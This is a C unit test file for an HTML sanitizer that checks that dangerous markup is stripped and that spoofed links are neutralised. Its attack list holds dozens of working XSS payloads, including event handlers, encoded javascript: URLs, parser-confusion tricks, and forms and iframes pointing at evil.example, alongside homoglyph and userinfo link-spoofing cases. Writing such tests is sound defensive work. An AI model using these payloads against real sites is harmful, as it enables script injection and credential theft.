/*
 * test_html_clean.c - HTML made safe: what must never come out, and what must stay.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <strings.h>

#include <cmocka.h>

#include "clf/base/arena.h"
#include "clf/base/count.h"
#include "html/html_clean.h"
#include "html/html_text.h"
#include "html/html_tree.h"
#include "mime/problems.h"

static const char *clean(struct clf_arena *arena, const char *html)
{
	struct problems *problems = clf_arena_new_of(arena, struct problems);
	problems->arena = arena;
	struct html_node *root = html_parse(arena, clf_str_from(html), problems);
	html_to_lines(arena, root);
	struct clf_buf out;
	clf_buf_init(&out, 1u << 20);
	html_clean(root, 0, (size_t)-1, &out);
	const char *text = clf_arena_copy(arena, out.p ? out.p : "", out.n);
	clf_buf_free(&out);
	return text;
}

/* " on...=" inside a tag and outside its quoted values. */
static bool has_event_attribute(const char *html)
{
	bool tag = false;
	bool quoted = false;
	for (const char *p = html; *p; p++) {
		if (tag && *p == '"')
			quoted = !quoted;
		else if (!quoted && (*p == '<' || *p == '>'))
			tag = *p == '<';
		else if (tag && !quoted && strncasecmp(p, " on", 3) == 0)
			return true;
	}
	return false;
}

static void nothing_active_comes_out(void **state)
{
	(void)state;
	static const char *const attacks[] = {
	    "<script>alert(1)</script>",
	    "<scr<script>ipt>alert(1)</scr</script>ipt>",
	    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	    "<img src=x onerror=alert(1)>",
	    "<img src=x oNeRrOr = 'alert(1)'>",
	    "<img/src=x/onerror=alert(1)//",
	    "<img src=\"x` `<script>alert(1)</script>\"` `>",
	    "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
	    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	    "<a href=\"javascript:alert(1)\">x</a>",
	    "<a href=\" java\tscript:alert(1)\">x</a>",
	    "<a href=\"&#106;avascript:alert(1)\">x</a>",
	    "<a href=\"&#x6A&#x61&#x76&#x61script:alert(1)\">x</a>",
	    "<a href=\"\x01javascript:alert(1)\">x</a>",
	    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
	    "<a href=\"vbscript:msgbox(1)\">x</a>",
	    "<iframe src=\"http://evil.example/\"></iframe>",
	    "<object data=\"http://evil.example/x.swf\"><embed src=x></object>",
	    "<form action=\"http://evil.example/\"><input name=password><button "
	    "formaction=javascript:alert(1)>go</button></form>",
	    "<base href=\"http://evil.example/\">",
	    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
	    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
	    "<style>body{background:url(http://evil.example/)}</style>",
	    "<div style=\"background:url(javascript:alert(1))\">x</div>",
	    "<div style=\"width: expression(alert(1))\">x</div>",
	    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
	    "<div style=\"backgr\\6fund:u\\72l(http://evil.example/)\">x</div>",
	    "<div style=\"color:red;-moz-binding:url(http://evil.example/x.xml#a)\">x</div>",
	    "<div style='margin:-500px'>x</div>",
	    "<table background=\"http://evil.example/x.png\"><tr><td background=javascript:alert(1)>x</table>",
	    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
	    "<template><script>alert(1)</script></template>",
	    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
	    "<!--><img src=x onerror=alert(1)>-->",
	    "<![CDATA[<img src=x onerror=alert(1)>]]>",
	    "<a href='https://example.com/\" onmouseover=\"alert(1)'>x</a>",
	    "<p title='\"><script>alert(1)</script>'>x</p>",
	    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
	    "<img srcset=\"http://evil.example/x.png 1x\">",
	    "<details open ontoggle=alert(1)>x</details>",
	    "<x onclick=alert(1)>x</x>",
	    "<b <script>alert(1)</script>0",
	    "<a\nhref\n=\njavascript:alert(1)>x</a>",
	};
	/* In tags only: as text these words are harmless. */
	static const char *const forbidden[] = {"<script",   "<iframe",     "<object",     "<embed",  "<form",
						"<input",    "<button",     "<base",       "<meta",   "<link",
						"<style",    "<svg",        "<math",       "<video",  "<template",
						"href=\"j",  "href=\"v",    "href=\"d",    "url(",    "expression(",
						"position:", " src=\"http", "background=", "srcset=", "svg+xml",
						"-500px",    "binding"};
	struct clf_arena *arena = clf_arena_new();
	for (size_t i = 0; i < CLF_COUNT(attacks); i++) {
		const char *out = clean(arena, attacks[i]);
		for (size_t k = 0; k < CLF_COUNT(forbidden); k++)
			if (strcasestr(out, forbidden[k]))
				fail_msg("%s\n  became %s", attacks[i], out);
		if (has_event_attribute(out))
			fail_msg("%s\n  became %s", attacks[i], out);
	}
	clf_arena_free(&arena);
}

static void links_show_their_target(void **state)
{
	(void)state;
	struct clf_arena *arena = clf_arena_new();
	const char *out = clean(arena, "<a href=\"https://real.example/?a=1&amp;b=2\" title=\"lie\" target=x>bank</a>");
	assert_non_null(strstr(out, "href=\"https://real.example/?a=1&amp;b=2\""));
	assert_non_null(strstr(out, "title=\"https://real.example/?a=1&amp;b=2\""));
	assert_non_null(strstr(out, "rel=\"noopener noreferrer nofollow\""));
	assert_null(strstr(out, "lie"));
	clf_arena_free(&arena);
}

/* What is shown is where a browser goes, in letters that are what they look like. */
static void a_target_cannot_be_dressed_up(void **state)
{
	(void)state;
	static const struct {
		const char *href, *target; /* NULL: no link */
	} links[] = {
	    {" https://Shop.example/a?b=1#c ", "https://shop.example/a?b=1#c"},
	    {"\n\thttps://Shop.example/a?b=1#c", "https://shop.example/a?b=1#c"},
	    {"https://shop.example:8443/x", "https://shop.example:8443/x"},
	    {"http://[2001:db8::1]/x", "http://[2001:db8::1]/x"},
	    {"https://\xd0\xb0pple.example/", "https://xn--pple-43d.example/"},
	    {"https://b\xc3\xbc"
	     "cher.example/\xc3\xbc",
	     "https://xn--bcher-kva.example/%C3%BC"},
	    {"https://shop.example/\xe2\x80\xaegnp.exe", "https://shop.example/%E2%80%AEgnp.exe"},
	    {"https://bank.example@evil.example/", NULL},
	    {"https://bank.example%2f@evil.example/", NULL},
	    {"https://bank.example%2eevil.example/", NULL},
	    {"https:///evil.example/", NULL},
	    {"https:evil.example", NULL},
	    {"mailto:ann@example.com?subject=a%20b", "mailto:ann@example.com?subject=a%20b"},
	};
	struct clf_arena *arena = clf_arena_new();
	for (size_t i = 0; i < CLF_COUNT(links); i++) {
		const char *out = clean(arena, clf_arena_printf(arena, "<a href=\"%s\">bank</a>", links[i].href));
		const char *target = links[i].target;
		assert_string_equal(out, target
					     ? clf_arena_printf(arena,
								"<a href=\"%s\" title=\"%s\" rel=\"noopener noreferrer "
								"nofollow\" target=\"_blank\">bank</a>",
								target, target)
					     : "<a>bank</a>");
	}
	clf_arena_free(&arena);
}

static void sizes_stay_within_a_page(void **state)
{
	(void)state;
	struct clf_arena *arena = clf_arena_new();
	assert_string_equal(clean(arena,
				  "<p style=\"width:640px;margin:0 auto .5em 10pt;font-size:1.25rem;color:#990099;"
				  "font-weight:700;font-family:'Font 2001', serif;height:3000px;padding:60em;"
				  "text-indent:10vw\">x</p>"),
			    "<p style=\"width:640px;margin:0 auto .5em 10pt;font-size:1.25rem;color:#990099;"
			    "font-weight:700;font-family:&#39;Font 2001&#39;, serif;\">x</p>");
	clf_arena_free(&arena);
}

static void remote_pictures_are_named_not_loaded(void **state)
{
	(void)state;
	struct clf_arena *arena = clf_arena_new();
	const char *out = clean(
	    arena, "<img src=\"http://track.example/p.gif\" width=1 alt=pixel><img src=\"cid:logo@example.com\">");
	assert_null(strstr(out, " src=\"http"));
	assert_non_null(strstr(out, "data-remote=\"http://track.example/p.gif\""));
	assert_non_null(strstr(out, "src=\"cid:logo@example.com\""));
	clf_arena_free(&arena);
}

static void what_is_harmless_stays(void **state)
{
	(void)state;
	struct clf_arena *arena = clf_arena_new();
	assert_string_equal(clean(arena, "<p>a &lt;b&gt; <b>c</b><br>d</p>"), "<p>a &lt;b&gt; <b>c</b><br>d</p>");
	const char *out =
	    clean(arena, "<span style=\"color:#c00; font-weight:bold !important; position:absolute\">x</span>");
	assert_string_equal(out, "<span style=\"color:#c00;font-weight:bold;\">x</span>");
	assert_string_equal(clean(arena, "<td>x</td><o:p>y</o:p>"), "xy");
	assert_string_equal(clean(arena, "if a < b then <unclosed"), "if a &lt; b then &lt;unclosed");
	clf_arena_free(&arena);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(nothing_active_comes_out),
	    cmocka_unit_test(links_show_their_target),
	    cmocka_unit_test(a_target_cannot_be_dressed_up),
	    cmocka_unit_test(sizes_stay_within_a_page),
	    cmocka_unit_test(remote_pictures_are_named_not_loaded),
	    cmocka_unit_test(what_is_harmless_stays),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
